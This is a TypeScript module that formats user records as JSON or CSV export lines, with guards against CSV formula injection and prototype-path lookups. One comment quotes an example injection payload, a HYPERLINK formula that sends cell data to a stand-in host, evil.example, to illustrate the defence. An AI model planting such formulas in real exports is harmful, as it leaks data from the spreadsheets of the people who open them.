/**
 * Formats users as lines of an export: newline-delimited JSON, or CSV by RFC 4180 as Auth0 writes it ("Bulk user
 * exports"). Its input is a user as the Management API shows them, so a line contains no more than `GET /users`, and
 * never a password hash. No I/O.
 */
import type { UserExportField, UserExportFormat } from '../../ports/directory/user-exports.js';
import type { Wire } from '../api/operation.js';

/**
 * Fields of an export that names none: Auth0's normalized profile, and the times of creation and of the last change.
 */
const USUAL_FIELDS: readonly UserExportField[] = [
  'user_id',
  'email',
  'email_verified',
  'name',
  'given_name',
  'family_name',
  'nickname',
  'picture',
  'created_at',
  'updated_at',
].map((name) => ({ name }));

/**
 * Columns with times that this server wrote. No person can choose their text, so they need no protection against
 * formulas.
 */
const OWN_TIMES: ReadonlySet<string> = new Set(['created_at', 'updated_at', 'last_login']);

/** Converts `identities[0].connection` into `identities`, `0`, `connection`. */
const toPath = (name: string): readonly string[] => name.replace(/\[(\d{1,4})\]/g, '.$1').split('.');

/**
 * Returns the value at a path, or undefined. Reads own properties only, so that a path such as `constructor` finds
 * nothing.
 */
function valueAt(user: Wire, path: readonly string[]): unknown {
  let value: unknown = user;
  for (const step of path) {
    if (typeof value !== 'object' || value === null || !Object.hasOwn(value, step)) return undefined;
    value = (value as Wire)[step];
  }
  return value;
}

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/**
 * Returns a user's text as a cell that begins with a single quote. Attack: formula injection (OWASP "CSV Injection"): a
 * person has the name `=HYPERLINK("https://evil.example/?"&A1)`, which the administrator's spreadsheet would run. As on
 * Auth0, every text gets the quote, so that a reader can always remove one.
 */
const toTextCell = (text: string) => quoted(`'${text}`);

function toCell(name: string, value: unknown): string {
  if (value === undefined || value === null) return '';
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  if (typeof value !== 'string') return toTextCell(JSON.stringify(value));
  return OWN_TIMES.has(name) ? value : toTextCell(value);
}

/** Returns the title of a column. A title that a spreadsheet would run as a formula gets a single quote in front. */
function toTitle(title: string): string {
  const inert = /^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title;
  return /[",\r\n]/.test(inert) ? quoted(inert) : inert;
}

/** The text of an export file, one line for each user. Lines include their line end. */
export interface ExportLines {
  /** The text before the first user: the column titles of CSV; empty for JSON. */
  readonly head: string;
  toLine(user: Wire): string;
}

/**
 * Returns a formatter for the requested fields; without any, for the default ones. A field that a user lacks is omitted
 * in JSON and an empty cell in CSV.
 */
export function createExportLines(format: UserExportFormat, asked: readonly UserExportField[] = []): ExportLines {
  const columns = (asked.length > 0 ? asked : USUAL_FIELDS).map(({ name, exportAs }) => ({
    name,
    title: exportAs ?? name,
    path: toPath(name),
  }));
  if (format === 'csv') {
    return {
      head: `${columns.map(({ title }) => toTitle(title)).join(',')}\r\n`,
      toLine: (user) => `${columns.map(({ name, path }) => toCell(name, valueAt(user, path))).join(',')}\r\n`,
    };
  }
  return {
    head: '',
    toLine(user) {
      const entries = columns.map(({ title, path }) => [title, valueAt(user, path)]);
      return `${JSON.stringify(Object.fromEntries(entries))}\n`;
    },
  };
}
